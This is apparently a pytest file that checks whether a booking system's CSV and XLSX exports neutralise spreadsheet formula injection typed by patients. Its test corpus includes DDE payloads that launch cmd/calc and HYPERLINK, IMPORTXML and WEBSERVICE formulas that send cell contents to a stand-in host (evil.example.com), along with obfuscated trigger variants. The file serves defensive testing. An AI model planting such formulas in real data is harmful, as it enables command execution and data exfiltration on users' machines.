"""Whatever patients type, no spreadsheet calculates it: a corpus of formulas through both exports,
read back by other programs' own readers."""

import csv
import io
from datetime import datetime
from itertools import product

import openpyxl
import pytest

from booking.admin.spreadsheets import as_text, csv_lines, write_xlsx

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example.com?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example.com/?",A1),"//a")',
    '=WEBSERVICE("http://evil.example.com/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "=@SUM(1+1)*cmd|' /C calc'!A0",
    "={1,2}",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+44 780 555 0150",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "- worse in the morning",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@evil",
    "=",
    "+",
    "-",
    "@",
    "==1",
    "=-1",
    '="1"',
    "=A1;=B1",
    "=1\n=2",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe661+1",
    "\u22121+1",
]
BEFORE = [" ", "   ", "\t", "\r", "\n", "\r\n", "\x00", '"', '" ', "\u00a0", "\u200b", "\ufeff"]
INSIDE = ["Ana;=1+1", 'Ana";=1+1', "Ana\t=1+1", "Ana\n=1+1", "Ana\r\n+1", "Ana; @x", "Ana|-1"]
CONTROLS = ["\tAna", "\rAna", "\nAna", "\x00Ana", "\x00\x00=1", "\x0b=1", "\x01@x", "\x1b-1"]
MIXED = [before + formula for before, formula in product(BEFORE, ["=1+1", "@x", "\uff1d1"])]
CORPUS = [*FORMULAS, *MIXED, *INSIDE, *CONTROLS]

HARMLESS = [
    "Ana Lopez",
    "",
    "O’Neill-Costa, Ana",
    'She said "soon"',
    "a-b=c",
    "(780) 555-0150",
    "ana@example.com",
    "'quoted",
    "Łukasz 李",
    "#N/A",
    "TRUE",
    "1e5",
]
STARTS = set("=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212\t\r\n\x00")


def is_calculated(cell: str) -> bool:
    """Whether some spreadsheet might take the cell for a formula; said apart from the escape."""
    bare = cell.strip(' "\u00a0\u200b\ufeff\t\r\n\x00')
    return cell[:1] in STARTS or bare[:1] in STARTS


def pieces(cell: str) -> list[str]:
    """The cells that a program sees which parts at semicolons, tabs, bars or lines."""
    for separator in "\t\r\n|":
        cell = cell.replace(separator, ";")
    return cell.split(";")


def through_csv(text: str) -> list[list[str]]:
    sent = "".join(csv_lines([["A"], [text, "last"]])).encode()
    return list(csv.reader(io.StringIO(sent.decode("utf-8-sig"), newline="")))


def through_xlsx(text: str) -> list[list[openpyxl.cell.Cell]]:
    file = io.BytesIO()
    write_xlsx(file, [["A"], [text, "last"]], title="Visits")
    return list(openpyxl.load_workbook(file).active.iter_rows())


def test_the_corpus_is_as_large_as_it_should_be() -> None:
    assert len(CORPUS) >= 60
    assert len(set(CORPUS)) == len(CORPUS)


@pytest.mark.parametrize("text", FORMULAS + INSIDE, ids=repr)
def test_unescaped_it_would_be_calculated(text: str) -> None:
    """Else the tests below would prove nothing."""
    assert any(is_calculated(piece) for piece in pieces(text))


@pytest.mark.parametrize("text", CORPUS, ids=repr)
def test_in_csv_it_is_text(text: str) -> None:
    heading, row = through_csv(text)

    assert (heading, row[1:]) == (["A"], ["last"])
    assert not is_calculated(row[0])
    assert [piece for piece in pieces(row[0])[:1] if is_calculated(piece)] == []


@pytest.mark.parametrize("text", INSIDE, ids=repr)
def test_a_separator_inside_a_text_opens_no_formula_either(text: str) -> None:
    assert [piece for piece in pieces(as_text(text)) if piece[:1] in STARTS] == []


@pytest.mark.parametrize("text", CORPUS, ids=repr)
def test_in_xlsx_it_is_text(text: str) -> None:
    _, (cell, last) = through_xlsx(text)

    assert (cell.data_type, last.data_type) == ("s", "s")
    assert not is_calculated(cell.value)


@pytest.mark.parametrize("text", HARMLESS, ids=repr)
def test_what_is_harmless_arrives_as_it_was_typed(text: str) -> None:
    assert through_csv(text)[1][0] == text
    assert (through_xlsx(text)[1][0].value or "") == text


@pytest.mark.parametrize("text", [*CORPUS, *HARMLESS], ids=repr)
def test_escaping_twice_changes_nothing(text: str) -> None:
    assert as_text(as_text(text)) == as_text(text)


@pytest.mark.parametrize("text", ["#N/A", "#REF!", "TRUE", "1e5", "2026-11-23", "="])
def test_in_xlsx_nothing_typed_becomes_a_number_a_day_or_an_error(text: str) -> None:
    assert through_xlsx(text)[1][0].data_type == "s"


def test_a_moment_is_a_day_in_xlsx_and_can_be_sorted_in_csv() -> None:
    file = io.BytesIO()
    moment = datetime(2026, 11, 24, 9, 30)  # noqa: DTZ001 - wall time, as a spreadsheet has it
    write_xlsx(file, [["When"], [moment]], title="Visits")
    cell = openpyxl.load_workbook(file).active["A2"]

    assert (cell.value, cell.is_date) == (moment, True)
    assert "".join(csv_lines([[moment]])) == '\ufeff"2026-11-24 09:30"\r\n'


def test_csv_is_as_the_rfc_has_it() -> None:
    lines = list(csv_lines([["A", "B"], ['say "hi"', "two\nlines"], [None, 7]]))

    assert lines == ["\ufeff", '"A","B"\r\n', '"say ""hi""","two\nlines"\r\n', '"","7"\r\n']
